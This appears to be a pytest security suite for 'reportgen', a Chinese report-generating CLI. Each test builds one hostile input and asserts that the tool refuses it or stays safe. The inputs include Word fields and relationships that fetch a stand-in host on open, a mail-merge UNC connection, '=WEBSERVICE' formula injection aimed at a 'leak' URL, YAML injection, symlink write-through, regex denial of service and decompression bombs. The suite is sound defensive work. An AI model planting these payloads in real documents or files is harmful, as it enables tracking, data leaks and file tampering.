"""Round 2 of outside attacks on reportgen: each test is one hole, asserting the safe behaviour.

Inputs are built in code: hostile template packs (a copy of the built-in jiguan made by ``packs new``,
its Word template rewritten member by member), fill-in workbooks, last year's reports, output
folders.  Whatever may blow up runs in a subprocess with a timeout and, where memory is at stake, an
address-space limit.
"""

from __future__ import annotations

import contextlib
import io
import os
import random
import re
import resource
import shutil
import signal
import subprocess
import sys
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path

import pytest
import yaml

from conftest import R_NS, W_NS, jiguan_copy, member, rewrite_zip

REPORTGEN = Path(sys.executable).with_name("reportgen")
REL_TYPE = R_NS
EVIL = "http://203.0.113.9/evil.png"
TEMPLATE = "word/template.docx"


# ---------------------------------------------------------------- helpers


@pytest.fixture(scope="module")
def base_pack(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A good pack named ``hostile`` (a copy of jiguan by ``packs new``) with its example profile."""
    return Path(jiguan_copy(tmp_path_factory.mktemp("attack2"), "hostile").root)


@pytest.fixture
def pack(base_pack: Path, tmp_path: Path) -> Path:
    target = tmp_path / "hostile"
    shutil.copytree(base_pack, target)
    return target


def limits(memory: int | None) -> Callable[[], None] | None:
    if memory is None:
        return None

    def apply() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (memory, memory))

    return apply


def _run(command: list[str], cwd: Path, timeout: float, memory: int | None) -> subprocess.CompletedProcess[str]:
    """``command`` in its own session; past ``timeout`` the whole group is killed and the test fails."""
    process = subprocess.Popen(command, cwd=cwd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                               preexec_fn=limits(memory), start_new_session=True)
    try:
        stdout, stderr = process.communicate(timeout=timeout)
    except subprocess.TimeoutExpired:
        with contextlib.suppress(ProcessLookupError):
            os.killpg(process.pid, signal.SIGKILL)
        process.communicate()
        pytest.fail(f"{' '.join(command[-6:])} did not finish within {timeout} s")
    return subprocess.CompletedProcess(command, process.returncode, stdout, stderr)


def cli(*args: str | Path, cwd: Path, timeout: float = 60, memory: int | None = None) -> subprocess.CompletedProcess[str]:
    """``reportgen ARGS`` in a subprocess; a run past ``timeout`` fails the test (its processes are killed)."""
    return _run([str(REPORTGEN), *map(str, args)], cwd, timeout, memory)


_PEAK = ("import resource, subprocess, sys\n"
         "code = subprocess.run(sys.argv[1:]).returncode\n"
         "print('PEAK_RSS_KB=%d' % resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss, file=sys.stderr)\n"
         "sys.exit(code)\n")


def cli_peak(*args: str | Path, cwd: Path, timeout: float, memory: int = 3 * 1024**3
             ) -> tuple[subprocess.CompletedProcess[str], int]:
    """``reportgen ARGS`` under a safety-net memory limit; also its peak resident memory in bytes."""
    result = _run([sys.executable, "-c", _PEAK, str(REPORTGEN), *map(str, args)], cwd, timeout, memory)
    found = re.search(r"PEAK_RSS_KB=(\d+)", result.stderr)
    assert found, result.stderr[-2000:]
    return result, int(found.group(1)) * 1024


def assert_chinese_failure(result: subprocess.CompletedProcess[str]) -> None:
    output = result.stdout + result.stderr
    assert result.returncode == 1, output[-3000:]
    assert "Traceback" not in output and "Error:" not in output, output[-3000:]






def edit_template(pack: Path, make: Callable[[bytes], Mapping[str, bytes | str | None]]) -> None:
    path = pack / TEMPLATE
    data = path.read_bytes()
    path.write_bytes(rewrite_zip(data, make(data)))


def add_to_body(pack: Path, xml: str) -> None:
    """``xml`` (paragraphs) added to the Word template's body, before its section properties."""
    def make(data: bytes) -> Mapping[str, str]:
        document = member(data, "word/document.xml")
        assert "<w:sectPr>" in document
        return {"word/document.xml": document.replace("<w:sectPr>", xml + "<w:sectPr>", 1)}

    edit_template(pack, make)


def corrupt_member(data: bytes, name: str) -> bytes:
    """A zip whose member ``name`` has a garbled deflate stream (its sizes and CRC as declared)."""
    buffer = bytearray(data)
    info = zipfile.ZipFile(io.BytesIO(data)).getinfo(name)
    assert info.compress_type == zipfile.ZIP_DEFLATED
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    buffer[start:start + 8] = b"\xff" * 8
    return bytes(buffer)


def draft_docx(tmp_path: Path, base_pack: Path, name: str = "draft.docx") -> Path:
    """A real draft of the pack's example profile."""
    folder = tmp_path / "drafted"
    folder.mkdir(exist_ok=True)
    result = cli("build", base_pack / "example.yaml", "--pack", base_pack, "-o", folder / name, cwd=tmp_path)
    assert result.returncode == 0, result.stdout + result.stderr
    return folder / name


def fill_in_workbook(tmp_path: Path, units: list[str], name: str = "填报表.xlsx") -> Path:
    """A fill-in workbook from ``reportgen sheet``, one row per unit, copied from an example row."""
    import openpyxl

    profile = tmp_path / "seed.yaml"
    shutil.copyfile(Path(__file__).resolve().parent.parent / "templates" / "jiguan" / "example.yaml", profile)
    blank = tmp_path / "blank.xlsx"
    result = cli("sheet", "jiguan", "-o", blank, profile, cwd=tmp_path)
    assert result.returncode == 0, result.stdout + result.stderr
    book = openpyxl.load_workbook(blank)
    sheet = book["填报"]
    header_row = next(row[0].row for row in sheet.iter_rows(max_row=10) if any(c.value == "单位名称" for c in row))
    headers = [cell.value for cell in sheet[header_row]]
    example = [cell.value for cell in sheet[header_row + 1]]
    for offset, unit in enumerate(units):
        for column, value in enumerate(example, start=1):
            sheet.cell(header_row + 1 + offset, column, value)
        sheet.cell(header_row + 1 + offset, headers.index("单位名称") + 1, unit)
        sheet.cell(header_row + 1 + offset, headers.index("述职人姓名") + 1, f"人员{offset}")
    target = tmp_path / name
    book.save(target)
    return target


def field_run(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def instr_run(text: str) -> str:
    return f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>'


# ---------------------------------------------------------------- 1. hostile packs: fetching on open


def test_template_tags_cannot_assemble_a_fetching_field(pack: Path, tmp_path: Path) -> None:
    """A field instruction whose name is a Jinja constant passes the check on the template's XML, and
    the draft carries INCLUDEPICTURE "http://…" \\d (Word fetches it when the draft is opened)."""
    add_to_body(pack, f'<w:p><w:fldSimple w:instr="{{{{ \'INCLUDEPICTURE\' }}}} &quot;{EVIL}&quot; \\d">'
                      "<w:r><w:t>图</w:t></w:r></w:fldSimple></w:p>")
    output = tmp_path / "稿子.docx"
    result = cli("build", pack / "example.yaml", "--pack", pack, "-o", output, cwd=tmp_path)
    if result.returncode == 0:
        from reportgen.office_safety import office_problems

        problems = office_problems(output.read_bytes(), "draft")
        assert not problems, [p.message for p in problems]
    else:
        assert_chinese_failure(result)
        assert not output.exists()


def test_hyperlink_relationship_used_as_a_picture_source_is_refused(pack: Path, tmp_path: Path) -> None:
    """A relationship typed “hyperlink” with an external target, used by a picture's a:blip r:link:
    LibreOffice fetched http://127.0.0.1/… when converting such a draft (tried by hand)."""
    picture = (
        '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
        '<wp:extent cx="952500" cy="952500"/><wp:docPr id="99" name="P"/>'
        '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
        '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr>'
        '<pic:cNvPr id="0" name="x"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link="rIdEvil"/>'
        '<a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/>'
        '<a:ext cx="952500" cy="952500"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr>'
        "</pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>")

    def make(data: bytes) -> Mapping[str, str]:
        rels = member(data, "word/_rels/document.xml.rels").replace(
            "</Relationships>", f'<Relationship Id="rIdEvil" Type="{REL_TYPE}/hyperlink" Target="{EVIL}" '
                                'TargetMode="External"/></Relationships>')
        document = member(data, "word/document.xml").replace("<w:sectPr>", picture + "<w:sectPr>", 1)
        return {"word/_rels/document.xml.rels": rels, "word/document.xml": document}

    edit_template(pack, make)
    result = cli("packs", "check", pack, cwd=tmp_path)
    assert_chinese_failure(result)
    assert "外部资源" in result.stdout + result.stderr


def test_field_name_made_by_a_nested_field_is_refused(pack: Path, tmp_path: Path) -> None:
    """{ { QUOTE "INCLUDEPICTURE" } "http://…" \\d }: the outer field's name is the nested field's result
    (the DDE/INCLUDE obfuscation trick); the check reads only the outer field's own text."""
    add_to_body(pack, "<w:p>" + field_run("begin") + field_run("begin") + instr_run(' QUOTE "INCLUDEPICTURE" ')
                + field_run("separate") + "<w:r><w:t>INCLUDEPICTURE</w:t></w:r>" + field_run("end")
                + instr_run(f' "{EVIL}" \\d ') + field_run("separate") + "<w:r><w:t>图</w:t></w:r>"
                + field_run("end") + "</w:p>")
    result = cli("packs", "check", pack, cwd=tmp_path)
    assert_chinese_failure(result)


def test_mail_merge_data_source_in_settings_is_refused(pack: Path, tmp_path: Path) -> None:
    """settings.xml w:mailMerge with a connect string to \\\\host\\share and a query: Word connects to the
    data source when the draft is opened (after its SQL prompt); no relationship is involved."""
    merge = ('<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:linkToQuery/><w:dataType w:val="native"/>'
             '<w:connectString w:val="Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\\\203.0.113.9\\share\\x.xlsx"/>'
             '<w:query w:val="SELECT * FROM `Sheet1$`"/></w:mailMerge>')
    edit_template(pack, lambda data: {"word/settings.xml": member(data, "word/settings.xml").replace(
        "</w:settings>", merge + "</w:settings>")})
    result = cli("packs", "check", pack, cwd=tmp_path)
    assert_chinese_failure(result)


def test_duplicate_member_names_in_the_word_template_are_refused(pack: Path, tmp_path: Path) -> None:
    """Two word/document.xml members: only the last is checked (a dict keeps one), the first may carry
    anything; drafts are then written with duplicate members (Python prints “UserWarning: Duplicate name”)."""
    path = pack / TEMPLATE
    source = zipfile.ZipFile(io.BytesIO(path.read_bytes()))
    hostile = member(path.read_bytes(), "word/document.xml").replace(
        "<w:sectPr>", f'<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;{EVIL}&quot; \\d"><w:r><w:t>图</w:t></w:r>'
                      "</w:fldSimple></w:p><w:sectPr>", 1)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf, pytest.warns(UserWarning):
        for info in source.infolist():
            if info.filename == "word/document.xml":
                zf.writestr(info.filename, hostile)
            zf.writestr(info.filename, source.read(info))
    path.write_bytes(out.getvalue())
    result = cli("packs", "check", pack, cwd=tmp_path)
    assert_chinese_failure(result)


@pytest.mark.parametrize("case", ["latin1-document", "utf16-content-types"])
def test_template_parts_in_other_xml_encodings_are_a_chinese_message(case: str, pack: Path, tmp_path: Path) -> None:
    """The safety check reads any encoding expat knows, but the Word layer then decodes templated parts,
    [Content_Types].xml and _rels/.rels as UTF-8: a traceback (UnicodeDecodeError) in packs check and build."""
    def make(data: bytes) -> Mapping[str, bytes]:
        if case == "latin1-document":
            document = member(data, "word/document.xml").replace('encoding="UTF-8"', 'encoding="ISO-8859-1"')
            document = document.replace("<w:sectPr>", "<w:p><w:r><w:t>caf\xe9</w:t></w:r></w:p><w:sectPr>", 1)
            return {"word/document.xml": document.encode("latin-1")}
        types = member(data, "[Content_Types].xml").replace('encoding="UTF-8"', 'encoding="UTF-16"')
        return {"[Content_Types].xml": b"\xff\xfe" + types.encode("utf-16-le")}

    edit_template(pack, make)
    from reportgen.office_safety import office_problems

    assert office_problems(pack / TEMPLATE, "template") == []  # the file itself is fine: expat reads it
    result = cli("packs", "check", pack, cwd=tmp_path)
    assert "Traceback" not in result.stdout + result.stderr, result.stderr[-1500:]
    assert result.returncode in (0, 1)


# ---------------------------------------------------------------- 1. hostile packs: time and memory


def test_output_of_all_template_parts_together_is_bounded(pack: Path, base_pack: Path, tmp_path: Path) -> None:
    """The output cap is per part: 200 header parts, each printing {{ body }} just under the cap, make a
    20 KB pack cost minutes and gigabytes per draft."""
    body_size = len(member(draft_docx(tmp_path, base_pack).read_bytes(), "word/document.xml"))
    copies = 4_900_000 // body_size
    header = (f'<?xml version="1.0" encoding="UTF-8"?><w:hdr xmlns:w="{W_NS}"><w:p><w:r><w:t>'
              + "{{ body }}" * copies + "</w:t></w:r></w:p></w:hdr>")
    edit_template(pack, lambda data: {f"word/header{n}.xml": header for n in range(100, 300)})
    output = tmp_path / "稿子.docx"
    result, peak = cli_peak("build", pack / "example.yaml", "--pack", pack, "-o", output, cwd=tmp_path, timeout=20)
    assert "Traceback" not in result.stderr, result.stderr[-2000:]
    assert result.returncode in (0, 1)
    assert peak < 1024**3, f"peak memory {peak / 1024**2:.0f} MB"
    if result.returncode == 0:
        with zipfile.ZipFile(output) as zf:
            assert sum(info.file_size for info in zf.infolist()) < 64 * 1024 * 1024


def test_word_template_tag_cleanup_is_bounded_in_time(pack: Path, tmp_path: Path) -> None:
    """docxtpl's tag cleanup (regexes, quadratic in “{{” without “}}”) runs before the compile time
    limit: a 5 KB Word template with 30,000 “{{” kept ``packs check`` busy for 100 s."""
    add_to_body(pack, "<w:p><w:r><w:t>" + "{{" * 30_000 + "</w:t></w:r></w:p>")
    result = cli("packs", "check", pack, cwd=tmp_path, timeout=15)
    assert_chinese_failure(result)


def test_pack_relation_is_parsed_in_linear_time(pack: Path, tmp_path: Path) -> None:
    """relations: ["a<60,000 spaces>b"]: the relation regex (lazy groups around \\s*) is quadratic,
    30 s for a 60 KB pack.yaml; a 1 MB one would take hours."""
    manifest = pack / "pack.yaml"
    text = manifest.read_text(encoding="utf-8")
    relation = '  - "a' + " " * 60_000 + 'b"\n'
    if re.search(r"(?m)^relations:\s*$", text):
        text = re.sub(r"(?m)^relations:\s*\n", lambda m: m.group(0) + relation, text, count=1)
    else:
        text += "\nrelations:\n" + relation
    manifest.write_text(text, encoding="utf-8")
    result = cli("packs", "check", pack, cwd=tmp_path, timeout=10)
    assert_chinese_failure(result)


# ---------------------------------------------------------------- 4. similar and last year's drafts


@pytest.mark.parametrize("content", ["<p" * 150_000, "【待补充：" * 100_000], ids=["html-tag", "placeholder"])
def test_similar_reads_hostile_text_in_linear_time(content: str, tmp_path: Path) -> None:
    """``similar`` on a 300-500 KB text: ``</?p[^>]*>`` (lastyear.document_text) and ``【待补充：[^】]*】``
    (similarity.normalize) rescan to the end from every unclosed start — about 40 s each; 20 MB is allowed."""
    (tmp_path / "a.md").write_text(content, encoding="utf-8")
    (tmp_path / "b.md").write_text("加强党的建设，推动工作落实。" * 50, encoding="utf-8")
    result = cli("similar", tmp_path / "a.md", tmp_path / "b.md", cwd=tmp_path, timeout=10)
    assert result.returncode in (0, 1), result.stderr[-2000:]
    assert "Traceback" not in result.stderr


def test_similar_memory_is_bounded_on_huge_docx_files(tmp_path: Path) -> None:
    """Two copies of a 3.6 MB .docx holding 4 million characters (the limits allow 20 MB files and
    100 MB of XML): the exact 复制比 keeps a set of every 13-character run's hash — about 590 MB and 13 s
    here, 1.35 GB and 30 s at 10 million characters; it grows with the text without bound."""
    rnd = random.Random(7)
    block = "".join(rnd.choice("党建工作学习组织会议支部书记责任落实制度监督群众") for _ in range(100_000))
    document = (f'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="{W_NS}"><w:body><w:p><w:r><w:t>'
                f"{block * 40}</w:t></w:r></w:p></w:body></w:document>")
    types = ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
             'content-types"><Default Extension="xml" ContentType="application/xml"/></Types>')
    with zipfile.ZipFile(tmp_path / "a.docx", "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
        zf.writestr("[Content_Types].xml", types)
        zf.writestr("word/document.xml", document)
    assert (tmp_path / "a.docx").stat().st_size < 20 * 1024 * 1024
    shutil.copyfile(tmp_path / "a.docx", tmp_path / "b.docx")
    result, peak = cli_peak("similar", tmp_path / "a.docx", tmp_path / "b.docx", cwd=tmp_path, timeout=20)
    assert result.returncode in (0, 1), result.stderr[-2000:]
    assert "Traceback" not in result.stderr
    assert peak < 400 * 1024**2, f"peak memory {peak / 1024**2:.0f} MB"


# ---------------------------------------------------------------- 2. workbooks and last year's reports


def test_workbook_styles_bomb_is_bounded(tmp_path: Path) -> None:
    """A 0.5 MB workbook whose styles.xml (62 MB, compression ratio 128, under every limit) declares a
    million cell formats: ``check`` took 30 s and 1.8 GB."""
    workbook = fill_in_workbook(tmp_path, ["市档案馆机关党支部"])
    styles = member(workbook.read_bytes(), "xl/styles.xml")
    start, end = styles.index("<cellXfs"), styles.index("</cellXfs>")
    formats = '<xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>' * 1_000_000
    styles = styles[:start] + '<cellXfs count="1000000">' + formats + styles[end:]
    source = zipfile.ZipFile(workbook)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
        for info in source.infolist():
            zf.writestr(info.filename, styles if info.filename == "xl/styles.xml" else source.read(info))
    bomb = tmp_path / "样式炸弹.xlsx"
    bomb.write_bytes(out.getvalue())
    result, peak = cli_peak("check", bomb, cwd=tmp_path, timeout=15)
    assert "Traceback" not in result.stderr, result.stderr[-2000:]
    assert result.returncode in (0, 1)
    assert peak < 1024**3, f"peak memory {peak / 1024**2:.0f} MB"


CORRUPT_CASES = ["next-docx", "similar-docx", "check-workbook", "build-over-existing", "build-ledger",
                 "packs-check", "packs-install-zip"]


@pytest.mark.parametrize("case", CORRUPT_CASES)
def test_a_corrupt_deflate_stream_is_a_chinese_message(case: str, pack: Path, base_pack: Path,
                                                        tmp_path: Path) -> None:
    """A member whose deflate data is garbled makes zipfile raise zlib.error, which read_package (and
    the pack zip extractor) does not catch: a Python traceback instead of “文件已损坏”."""
    draft = draft_docx(tmp_path, base_pack)
    bad_docx = tmp_path / "上年述职.docx"
    bad_docx.write_bytes(corrupt_member(draft.read_bytes(), "word/document.xml"))
    profile = tmp_path / "资料.yaml"
    shutil.copyfile(base_pack / "example.yaml", profile)
    if case == "next-docx":
        result = cli("next", bad_docx, "--yes", "--pack", "jiguan", cwd=tmp_path)
    elif case == "similar-docx":
        result = cli("similar", bad_docx, draft, cwd=tmp_path)
    elif case == "check-workbook":
        workbook = fill_in_workbook(tmp_path, ["市档案馆机关党支部"])
        workbook.write_bytes(corrupt_member(workbook.read_bytes(), "xl/styles.xml"))
        result = cli("check", workbook, cwd=tmp_path)
    elif case == "build-over-existing":
        result = cli("build", profile, "--pack", base_pack, "-o", bad_docx, cwd=tmp_path)
    elif case == "build-ledger":
        ledger = tmp_path / "台账.xlsx"
        made = cli("ledger", profile, "--pack", base_pack, "-o", ledger, cwd=tmp_path)
        assert made.returncode == 0, made.stdout + made.stderr
        ledger.write_bytes(corrupt_member(ledger.read_bytes(), "xl/styles.xml"))
        result = cli("build", profile, "--pack", base_pack, "-o", tmp_path / "x.docx", "--ledger", ledger, cwd=tmp_path)
    elif case == "packs-check":
        (pack / TEMPLATE).write_bytes(corrupt_member((pack / TEMPLATE).read_bytes(), "word/styles.xml"))
        result = cli("packs", "check", pack, cwd=tmp_path)
    else:
        exported = tmp_path / "hostile.zip"
        made = cli("packs", "export", pack, "-o", exported, cwd=tmp_path)
        assert made.returncode == 0, made.stdout + made.stderr
        bad = tmp_path / "bad.zip"
        names = zipfile.ZipFile(exported).namelist()
        bad.write_bytes(corrupt_member(exported.read_bytes(), next(n for n in names if n.endswith("pack.yaml"))))
        result = cli("packs", "install", bad, cwd=tmp_path)
    assert_chinese_failure(result)


def test_ledger_matching_is_bounded_in_time(tmp_path: Path, base_pack: Path) -> None:
    """A 60 KB 整改台账: 5,000 rows sharing one 30,000-character shared string as their problem.  Every
    problem of every profile strips punctuation from every row again (O(problems × rows × length)):
    one ``build --ledger`` took 30-55 s, and a batch pays it per unit."""
    profile = tmp_path / "资料.yaml"
    data = yaml.safe_load((base_pack / "example.yaml").read_text(encoding="utf-8"))
    data["pack"] = str(base_pack)
    data["rectification"] = [{"problem": f"问题{n}没有整改到位", "measure": f"措施{n}", "status": "持续推进",
                              "action": "做了一些工作"} for n in range(5)]
    profile.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    ledger = tmp_path / "台账.xlsx"
    made = cli("ledger", profile, "-o", ledger, cwd=tmp_path)
    assert made.returncode == 0, made.stdout + made.stderr
    namespace = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    headers = ["序号", "单位", "问题", "来源", "整改措施", "责任人", "完成时限", "进展情况", "是否销号"]
    strings = [*headers, "问题，" * 10_000, "进展", "否"]
    shared = (f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{namespace}" count="{len(strings)}" '
              f'uniqueCount="{len(strings)}">' + "".join(f"<si><t>{s}</t></si>" for s in strings) + "</sst>")
    rows = ['<row r="1">' + "".join(f'<c r="{"ABCDEFGHI"[j]}1" t="s"><v>{j}</v></c>' for j in range(9)) + "</row>"]
    rows += [f'<row r="{n}"><c r="C{n}" t="s"><v>9</v></c><c r="H{n}" t="s"><v>10</v></c>'
             f'<c r="I{n}" t="s"><v>11</v></c></row>' for n in range(2, 5000)]
    sheet = (f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{namespace}"><sheetData>' + "".join(rows)
             + "</sheetData></worksheet>")
    data_bytes = ledger.read_bytes()
    ledger.write_bytes(rewrite_zip(data_bytes, {
        "xl/worksheets/sheet1.xml": sheet, "xl/sharedStrings.xml": shared,
        "[Content_Types].xml": member(data_bytes, "[Content_Types].xml").replace(
            "</Types>", '<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
                        'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>'),
        "xl/_rels/workbook.xml.rels": member(data_bytes, "xl/_rels/workbook.xml.rels").replace(
            "</Relationships>", f'<Relationship Id="rIdShared" Type="{REL_TYPE}/sharedStrings" '
                                'Target="sharedStrings.xml"/></Relationships>')}))
    assert ledger.stat().st_size < 200_000
    result = cli("build", profile, "-o", tmp_path / "稿子.docx", "--ledger", ledger, cwd=tmp_path, timeout=10)
    assert result.returncode in (0, 1), result.stderr[-2000:]
    assert "Traceback" not in result.stderr


def test_next_from_a_hostile_docx_cannot_inject_yaml(tmp_path: Path) -> None:
    """A problem whose text holds line breaks (a w:t may) is written into next year's profile unquoted:
    its lines become keys of the profile (here overrides.closing) or break it."""
    paragraphs = ["2025年度抓基层党建工作述职报告", "一、存在的问题",
                  "一是学习不够深入\noverrides：\n  closing：这段结束语来自别人的文件", "二、下一步措施", "一是加强学习。"]
    body = "".join(f'<w:p><w:r><w:t xml:space="preserve">{p}</w:t></w:r></w:p>' for p in paragraphs)
    with zipfile.ZipFile(tmp_path / "上年.docx", "w") as zf:
        zf.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
                                           'package/2006/content-types"/>')
        zf.writestr("word/document.xml", f'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="{W_NS}">'
                                         f"<w:body>{body}</w:body></w:document>")
    result = cli("next", tmp_path / "上年.docx", "--yes", "--pack", "jiguan", "-o", tmp_path / "2026.yaml", cwd=tmp_path)
    assert result.returncode == 0, result.stdout + result.stderr
    text = (tmp_path / "2026.yaml").read_text(encoding="utf-8")
    try:
        data = yaml.safe_load(text)
    except yaml.YAMLError as exc:
        pytest.fail(f"next wrote a profile that is not valid YAML: {exc}")
    assert "overrides" not in data and not any(line.startswith("overrides") for line in text.splitlines())
    checked = cli("check", tmp_path / "2026.yaml", cwd=tmp_path)
    assert "全角冒号" not in checked.stdout + checked.stderr and "不能出现" not in checked.stdout + checked.stderr


def test_library_warnings_never_reach_the_user(tmp_path: Path) -> None:
    """A date cell whose serial number is out of range: openpyxl's English UserWarning with its source
    path is printed before reportgen's own message."""
    import openpyxl

    workbook = fill_in_workbook(tmp_path, ["市档案馆机关党支部"])
    book = openpyxl.load_workbook(workbook)
    sheet = book["填报"]
    header_row = next(row[0].row for row in sheet.iter_rows(max_row=10) if any(c.value == "单位名称" for c in row))
    headers = [cell.value for cell in sheet[header_row]]
    cell = sheet.cell(header_row + 1, headers.index("报告日期") + 1)
    cell.value = 1e12
    cell.number_format = "yyyy-mm-dd"
    book.save(workbook)
    result = cli("check", workbook, cwd=tmp_path)
    output = result.stdout + result.stderr
    assert "Warning" not in output and ".py:" not in output, output[:1000]


# ---------------------------------------------------------------- 3. outputs


def test_summary_never_overwrites_the_input_workbook(tmp_path: Path) -> None:
    """A fill-in workbook named 汇总.xlsx (pre-filled by ``reportgen sheet``, so it carries a fingerprint)
    is silently replaced by the batch summary: the input is lost, no backup, no --force."""
    seed = tmp_path / "seed.yaml"
    shutil.copyfile(Path(__file__).resolve().parent.parent / "templates" / "jiguan" / "example.yaml", seed)
    workbook = tmp_path / "汇总.xlsx"
    made = cli("sheet", "jiguan", "-o", workbook, seed, cwd=tmp_path)
    assert made.returncode == 0, made.stdout + made.stderr
    before = workbook.read_bytes()
    result = cli("build", workbook, cwd=tmp_path)
    assert "Traceback" not in result.stderr
    assert workbook.read_bytes() == before, "the input workbook 汇总.xlsx was overwritten by the summary"


@pytest.mark.parametrize("link", ["symlink", "hardlink"])
def test_a_planted_lock_file_never_writes_through(link: str, tmp_path: Path, base_pack: Path) -> None:
    """.reportgen.lock is opened with "a+b" (following a symlink; a hard link is the file itself), then
    truncated and written: a link planted in an output folder makes reportgen overwrite any file the
    user can write (here a profile)."""
    victim = tmp_path / "重要资料.yaml"
    victim.write_text("meta:\n  unit: 不能被改掉\n", encoding="utf-8")
    folder = tmp_path / "out"
    folder.mkdir()
    if link == "symlink":
        (folder / ".reportgen.lock").symlink_to(victim)
    else:
        os.link(victim, folder / ".reportgen.lock")
    profile = tmp_path / "资料.yaml"
    shutil.copyfile(base_pack / "example.yaml", profile)
    result = cli("build", profile, "--pack", base_pack, "-o", folder / "稿子.docx", cwd=tmp_path)
    assert "Traceback" not in result.stderr
    assert victim.read_text(encoding="utf-8") == "meta:\n  unit: 不能被改掉\n"


def test_one_row_with_an_overlong_name_fails_alone(tmp_path: Path) -> None:
    """_safe_name keeps 80 characters; 70 CJK Extension B characters are 280 bytes, over the 255-byte
    name limit: stat raises ENAMETOOLONG outside the per-row handling and the whole batch stops."""
    workbook = fill_in_workbook(tmp_path, ["\U00020000" * 70, "市气象局机关党支部"])
    result = cli("build", workbook, "-o", tmp_path / "初稿", cwd=tmp_path)
    assert "Traceback" not in result.stderr
    assert (tmp_path / "初稿" / "市气象局机关党支部.docx").is_file(), result.stdout + result.stderr
    assert (tmp_path / "初稿" / "汇总.xlsx").is_file()


def test_batch_names_are_never_windows_device_names(tmp_path: Path) -> None:
    """Units named CON, NUL, COM1, LPT1 get CON.docx…: on Windows these open devices, not files."""
    units = ["CON", "nul", "COM1", "LPT1", "AUX", "PRN "]
    workbook = fill_in_workbook(tmp_path, units)
    result = cli("build", workbook, "-o", tmp_path / "初稿", cwd=tmp_path)
    assert result.returncode == 0, result.stdout + result.stderr
    reserved = {"CON", "PRN", "AUX", "NUL", *(f"COM{n}" for n in range(1, 10)), *(f"LPT{n}" for n in range(1, 10))}
    names = sorted(p.name for p in (tmp_path / "初稿").glob("*.docx"))
    assert len(names) == len(units)
    assert not [n for n in names if n.split(".")[0].strip().upper() in reserved], names


@pytest.mark.parametrize("command", ["summary", "ledger", "sheet"])
def test_workbooks_reportgen_writes_never_hold_formulas(command: str, tmp_path: Path, base_pack: Path) -> None:
    """A unit or name typed as “=WEBSERVICE(…)” / “=HYPERLINK(…)” becomes a live formula in 汇总.xlsx,
    整改台账 and 填报表 (openpyxl writes strings starting with “=” as formulas); reportgen then refuses
    its own 填报表 (“工作表里有公式”)."""
    import openpyxl

    data = yaml.safe_load((base_pack / "example.yaml").read_text(encoding="utf-8"))
    data["pack"] = str(base_pack)
    data["meta"]["unit"] = '=_xlfn.WEBSERVICE("http://203.0.113.9/leak")'
    data["meta"]["name"] = '=HYPERLINK("http://203.0.113.9/","点此查看")'
    folder = tmp_path / "资料"
    folder.mkdir()
    for name in ("甲.yaml", "乙.yaml"):
        (folder / name).write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    if command == "summary":
        result = cli("build", folder, "-o", tmp_path / "初稿", cwd=tmp_path)
        target = tmp_path / "初稿" / "汇总.xlsx"
    elif command == "ledger":
        result = cli("ledger", folder, "-o", tmp_path / "台账.xlsx", cwd=tmp_path)
        target = tmp_path / "台账.xlsx"
    else:
        result = cli("sheet", base_pack, "-o", tmp_path / "表.xlsx", folder / "甲.yaml", cwd=tmp_path)
        target = tmp_path / "表.xlsx"
    assert target.is_file(), result.stdout + result.stderr
    book = openpyxl.load_workbook(target)
    formulas = [(sheet.title, cell.coordinate, cell.value) for sheet in book for row in sheet.iter_rows()
                for cell in row if cell.data_type == "f"]
    assert not formulas, formulas[:4]


def test_a_single_build_clears_stale_temporaries(tmp_path: Path, base_pack: Path) -> None:
    """README: temporaries a killed reportgen left are removed on the next run; only a batch does it —
    ``build``, ``next``, ``init``, ``ledger`` and ``sheet`` leave them for ever."""
    probe = subprocess.Popen([sys.executable, "-c", "pass"])
    probe.wait()
    stale = tmp_path / f".reportgen-{probe.pid}-abc123.tmp"
    stale.write_bytes(b"PK half a draft")
    profile = tmp_path / "资料.yaml"
    shutil.copyfile(base_pack / "example.yaml", profile)
    result = cli("build", profile, "--pack", base_pack, "-o", tmp_path / "稿子.docx", cwd=tmp_path)
    assert result.returncode == 0, result.stdout + result.stderr
    assert not stale.exists()
